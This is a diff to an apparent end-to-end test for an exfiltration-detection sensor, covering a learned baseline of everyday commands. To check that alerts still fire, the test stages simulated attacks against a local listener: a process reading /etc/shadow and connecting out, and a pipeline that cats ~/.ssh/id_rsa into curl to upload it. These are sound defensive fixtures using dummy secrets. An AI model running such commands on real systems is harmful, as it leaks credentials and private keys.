@@ -45,7 +45,7 @@ def exfil(sensor_or_none, lst, python=None):
     actor = h.Actor(code, python=python, new_session=True)
     rep = actor.run()
     local = int(rep.get("local_port", "0"))
-    check(lst.accepted_from(local), f"the listener never accepted the actor's connection from port {local}")
+    check(lst.heard_from(local), f"the listener never accepted the actor's connection from port {local}")
     return actor
 
 
@@ -260,6 +260,57 @@ def case_bad_baseline_refused():
         with open(bad) as f:
             check(f.read() == '{"version": 1, "entries": [{"exe": "x"}]}', "learn touched a corrupt baseline")
     finally:
+        ws.cleanup()
+
+
+def case_benign_learned_attacks_caught():
+    """Issue 5: learn over everyday work (curl with its .netrc to a local server, getent,
+    id), then run --baseline: the same work is quiet, and the attacks still alert, as new."""
+    h.require_root_and_sensor()
+    curl = shutil.which("curl", path="/usr/bin:/bin")
+    if curl is None:
+        h.skip_or_fail("curl is not installed (apt-get install curl)")
+    ws, lst, sensor = h.Workspace(), h.HttpListener("127.0.0.1"), None
+    try:
+        home = ws.path("home")
+        os.makedirs(os.path.join(home, ".ssh"), mode=0o700)
+        h.write_file(os.path.join(home, ".ssh", "id_rsa"), "barbwire-e2e dummy key, not a real one\n", mode=0o600)
+        h.write_file(os.path.join(home, ".netrc"), "machine 127.0.0.1 login e2e password not-a-real-one\n",
+                     mode=0o600)
+        env = {"PATH": "/usr/bin:/bin", "LANG": "C", "HOME": home}
+        url = f"http://127.0.0.1:{lst.port}"
+        benign = (f'curl -s -o /dev/null {url}/index; getent passwd root >/dev/null; id >/dev/null; '
+                  f'whoami >/dev/null; curl -s --netrc-file "$HOME/.netrc" -d hello {url}/up >/dev/null')
+        base = ws.path("baseline.json")
+        learn(ws, base, lambda: h.Shell(benign, env=env).wait())
+        doc, _ = read_baseline(base)
+        learned = entries_of(doc, os.path.realpath(curl))
+        print(f"learned for curl: {learned}")
+
+        sensor = run_with(base)
+        work = h.Shell(benign, env=env)
+        work.wait()
+        # attack 1: the interpreter reads /etc/shadow and connects
+        actor = exfil(sensor, lst)
+        got = sensor.wait_alert(actor.pid)
+        check(len(got) == 1 and got[0].get("baseline") == "new", f"shadow exfil under the baseline: {got}")
+        # attack 2: a pipeline sends the key with the curl the baseline learned
+        sh = h.Shell(f'cat "$HOME/.ssh/id_rsa" | curl -s --data-binary @- {url}/k >/dev/null', env=env)
+        sh.wait()
+        check(lst.received(b"barbwire-e2e dummy key"), "the pipeline's upload never arrived")
+        got = sensor.wait_for(lambda a: h.in_session(a, sh.leader), timeout=h.ALERT_TIMEOUT)
+        check(len(got) >= 1, f"the pipeline exfil with a learned curl must alert:\n{sensor.stderr()}")
+        a = got[0]
+        check(a.get("baseline") == "new" and a["process"]["exe"] == os.path.realpath(curl),
+              f"pipeline alert: {a}")
+        # the everyday work ran before the attacks, so its events are processed by now
+        quiet = sensor.alerts_in_session(work.leader)
+        check(quiet == [], f"the learned everyday work alerted under the baseline: {quiet}")
+        sensor.stop_cleanly()
+    finally:
+        if sensor is not None:
+            sensor.kill()
+        lst.close()
         ws.cleanup()
 
 
